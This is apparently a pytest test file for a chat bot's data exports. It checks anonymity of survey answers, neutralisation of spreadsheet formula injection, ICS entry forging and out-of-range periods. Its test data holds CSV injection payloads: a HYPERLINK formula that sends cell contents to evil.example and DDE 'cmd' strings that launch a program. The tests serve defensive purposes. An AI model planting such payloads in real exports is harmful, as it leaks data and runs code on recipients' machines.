"""The exports as an attacker uses them: a hostile coordinator who wants to know who
answered what, an agreement text that runs as a formula in the coordinator's Excel, a
period that overflows the calendar. Each test fails on the code before issue 18."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile

import openpyxl
import pytest
from icalendar import Calendar
from sqlmodel import select

from storage import agreements as agreement_store
from storage.db import Database
from storage.models import PollVote, SurveyComment, SurveyParticipant
from tests import seed
from tests.dialog import ANNA, BEN, BERLIN, CARLA, CHAIR, COORDINATOR, ROOM, Dialog
from tests.export_data import Uploads, keep_uploads, render
from tests.unit.test_survey import answer_all, env_of, started, wake

ANSWERING = (ANNA, BEN, CARLA, CHAIR)
FREE_TEXTS = {who: f"Freitext-{i}-QX" for i, who in enumerate(ANSWERING)}


@pytest.fixture
def uploads(monkeypatch: pytest.MonkeyPatch) -> Uploads:
    return keep_uploads(monkeypatch)


def exported(dialog: Dialog, uploads: Uploads, command: str) -> bytes:
    file_msg, _notice = dialog.say(COORDINATOR, command)
    assert file_msg.content["msgtype"] == "m.file"
    return uploads[file_msg.event_id][2]


def dm_room(dialog: Dialog, who: str) -> str:
    """The member's direct-message room with the bot, as the survey helpers name it."""
    named = getattr(dialog, "dm_room", None)
    return str(named(who)) if named is not None else f"!dm-{who}"


@pytest.fixture
def answered(dialog: Dialog) -> Dialog:
    """Four of five members answer the annual survey, each with a free text, one after the
    other (an hour apart); a pulse gets four answers, a poll only two."""
    by_user = started(dialog)
    for i, who in enumerate(ANSWERING):
        dialog.now += dt.timedelta(hours=1)
        answer_all(dialog, who, by_user[who], str(i + 2))
        question = by_user[who][-1]
        dialog.reply_plain(who, FREE_TEXTS[who], question.event_id, room_id=dm_room(dialog, who))
    pulse, *_ = dialog.say(CHAIR, "!puls")
    for who, value in zip(ANSWERING, ("2", "3", "4", "5"), strict=True):
        dialog.answer_poll(who, pulse.event_id, (value,))
    dialog.say(CHAIR, "!schließen 1")
    dialog.say(ANNA, "!umfrage Termin? | Montag | Dienstag")
    dialog.say(ANNA, "!stimme 2 Montag")
    dialog.say(BEN, "!stimme 2 Dienstag")
    return dialog


def what_an_attacker_looks_for(dialog: Dialog) -> list[str]:
    """Every stored value that would tie an answer to a person or to its order."""
    with dialog.database.session() as s:
        votes = list(s.exec(select(PollVote)))
        comments = list(s.exec(select(SurveyComment)))
        participants = list(s.exec(select(SurveyParticipant)))
    found = [v.voter for v in votes] + [c.voter for c in comments] + [c.text for c in comments]
    found += [p.user_id for p in participants]
    return found


def test_the_coordinations_json_export_holds_results_and_no_single_answer(
    answered: Dialog, uploads: Uploads
) -> None:
    # What the database holds while the survey runs (participation may go when it ends).
    secrets = what_an_attacker_looks_for(answered)
    assert set(FREE_TEXTS.values()) <= set(secrets)  # the free texts were taken
    assert len(secrets) >= 8 * len(ANSWERING)
    wake(answered, answered.now + dt.timedelta(days=15), env_of(answered))
    answered.now += dt.timedelta(days=16)
    secrets += what_an_attacker_looks_for(answered)
    raw = exported(answered, uploads, "!export json")
    data = json.loads(raw)
    assert data["format"] == "gremienbot-export"
    assert "tables" not in data  # not the database dump
    assert [s["name"] for s in data["sections"]] == [
        "agreements",
        "history",
        "meetings",
        "polls",
        "decisions",
    ]
    text = raw.decode("utf-8")
    for table in ("poll_vote", "survey_comment", "survey_participant", "thanked_at", "voter"):
        assert table not in text
    for secret in secrets:
        assert secret not in text
    for who in ANSWERING:
        assert who not in text
    for free_text in FREE_TEXTS.values():
        assert free_text not in text
    polls = next(s for s in data["sections"] if s["name"] == "polls")
    keys = [c["key"] for c in polls["columns"]]
    # Per poll its figures: no voter, no time or ID of an answer.
    assert keys == [
        "room", "number", "kind", "question", "started_at", "ends_at", "answers", "results",
        "mean", "room_id",
    ]  # fmt: skip
    rows = [dict(zip(keys, row, strict=True)) for row in polls["rows"]]
    pulse, poll = rows
    # The pulse: four answers, counts per answer; the poll: two answers, the number only.
    assert pulse["answers"] == 4
    assert "5 – sehr zufrieden: 1" in pulse["results"]
    assert poll["answers"] == 2
    assert poll["results"] is None
    assert not re.search(r"(Montag|Dienstag): \d", raw.decode("utf-8"))


def test_a_json_export_while_the_survey_runs_shows_no_answer_either(
    answered: Dialog, uploads: Uploads
) -> None:
    text = exported(answered, uploads, "!export json alle").decode("utf-8")
    for secret in what_an_attacker_looks_for(answered):
        assert secret not in text


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json", "md"])
def test_a_poll_with_two_answers_is_broken_down_in_no_format(
    answered: Dialog, uploads: Uploads, fmt: str
) -> None:
    raw = exported(answered, uploads, f"!export {fmt}")
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(raw))["Umfragen"]
        cells = [str(c) for row in sheet.iter_rows(values_only=True) for c in row]
    elif fmt == "csv":
        text = zipfile.ZipFile(io.BytesIO(raw)).read("umfragen.csv").decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    else:
        cells = [raw.decode("utf-8")]
    shown = "\n".join(cells)
    assert "sehr zufrieden: 1" in shown  # the pulse with four answers is broken down
    assert not re.search(r"(Montag|Dienstag): \d", shown)  # the poll with two is not


# --- CSV opened as Excel would open it ---------------------------------------------

# Texts as a hostile member types them, one per dangerous first character.
DANGEROUS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# What Excel takes for the start of a formula (OWASP, "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(sqlite_db: Database) -> Database:
    """Agreements whose texts, notes, owners and editors start as a formula would."""
    at = dt.datetime(2026, 3, 2, 9, 0, tzinfo=BERLIN)
    with sqlite_db.session() as s:
        seed.room(s, ROOM, joined_at=at - dt.timedelta(days=30))
        for n, bad in enumerate(DANGEROUS):
            a = seed.agreement(
                s,
                ROOM,
                bad,
                by=ANNA,
                at=at,
                owners=[ANNA, f"@{bad.strip()}:example.org"],
                due=dt.date(2026, 7, 1),
                event=f"$hostile{n}",
            )
            agreement_store.add_note(s, a, bad, actor=BEN, at=at + dt.timedelta(hours=1))
            agreement_store.set_text(s, a, "-" + bad, actor=CARLA, at=at + dt.timedelta(hours=2))
    return sqlite_db


def csv_cells(raw: bytes) -> list[str]:
    text = raw.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(cells: list[str]) -> None:
    """What Excel reads first in each cell: never the start of a formula, unless the
    cell begins with the apostrophe that makes it text."""
    for cell in cells:
        assert not cell.startswith(FORMULA_START), repr(cell)


def test_every_cell_of_every_csv_is_neutralised_against_formulas(hostile: Database) -> None:
    archive = zipfile.ZipFile(io.BytesIO(render(hostile, "csv")))
    every = [cell for name in archive.namelist() for cell in csv_cells(archive.read(name))]
    assert_no_formula(every)
    # Nothing is lost: the apostrophe is added in front of the text as it was.
    for bad in DANGEROUS:
        assert "'" + bad in every
        assert "'-" + bad in every
    owners = [c for c in every if c.startswith("'@anna:example.org, @")]
    assert len(owners) == len(DANGEROUS)


def test_xlsx_keeps_a_formula_looking_text_a_string_never_a_formula(hostile: Database) -> None:
    raw = render(hostile, "xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    sheet = wb["Verabredungen"]
    texts = {}
    for row in sheet.iter_rows(min_row=2):
        # A carriage return is written as _x000D_, which Excel reads back as one.
        texts[row[2].value.replace("_x000D_", "\r")] = row[2]
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    for bad in DANGEROUS:
        cell = texts["-" + bad]
        assert cell.data_type == "s"
    notes = [row[7] for row in wb["Verlauf"].iter_rows(min_row=2)]
    assert {c.value.replace("_x000D_", "\r") for c in notes if c.value} >= set(DANGEROUS)
    assert all(c.data_type == "s" for c in notes if c.value)
    # No formula element anywhere in the workbook's XML.
    archive = zipfile.ZipFile(io.BytesIO(raw))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            xml = archive.read(name)
            assert b"<f>" not in xml
            assert b"<f " not in xml


def test_ics_keeps_a_text_with_line_breaks_inside_its_summary(sqlite_db: Database) -> None:
    at = dt.datetime(2026, 3, 2, 9, 0, tzinfo=BERLIN)
    forged = "Bericht\r\nEND:VTODO\r\nBEGIN:VEVENT\r\nSUMMARY:=cmd"
    with sqlite_db.session() as s:
        seed.room(s, ROOM, joined_at=at)
        seed.agreement(s, ROOM, forged, by=ANNA, at=at, owners=[ANNA], due=dt.date(2026, 7, 1))
    for fmt, kind in (("ics", "VTODO"), ("ics-events", "VEVENT")):
        cal = Calendar.from_ical(render(sqlite_db, fmt))
        [item] = list(cal.walk(kind))
        assert str(item["SUMMARY"]).endswith("SUMMARY:=cmd")
        assert len(list(cal.walk("VTODO"))) + len(list(cal.walk("VEVENT"))) == 1


def test_markdown_keeps_a_hostile_text_inside_its_table_cell(hostile: Database) -> None:
    report = render(hostile, "md").decode("utf-8")
    for line in report.splitlines():
        assert not line.startswith(("=", "+", "@", "\t", "\r")), line


# --- A period beyond the calendar ---------------------------------------------------


@pytest.mark.parametrize(
    "period",
    ["01.01.0001-31.12.9999", "01.01.0001 bis 31.12.2026", "9999", "Dezember 9999", "Q4 9999"],
)
def test_a_period_beyond_the_calendar_gets_a_clear_answer_not_an_internal_error(
    dialog: Dialog, uploads: Uploads, period: str
) -> None:
    [answer] = dialog.say(COORDINATOR, f"!export {period}")
    assert "Fehlercode" not in answer.body
    assert f"Der Zeitraum „{period}“ geht nicht" in answer.body
    assert "zwischen 2000 und 2036" in answer.body
    assert not uploads


def test_a_period_beyond_the_calendar_is_answered_in_english_in_english_rooms(
    dialog: Dialog, uploads: Uploads
) -> None:
    dialog.say(CHAIR, "!einstellungen sprache en")
    [answer] = dialog.say(COORDINATOR, "!export 01.01.0001-31.12.9999")
    assert "The period “01.01.0001-31.12.9999” is not possible" in answer.body
    assert "between 2000 and 2036" in answer.body
    assert not uploads


def test_a_period_within_the_bounds_is_exported(dialog: Dialog, uploads: Uploads) -> None:
    data = json.loads(exported(dialog, uploads, "!export json 01.01.2000-31.12.2036"))
    assert data["period"] == {"first": "2000-01-01", "last": "2036-12-31"}
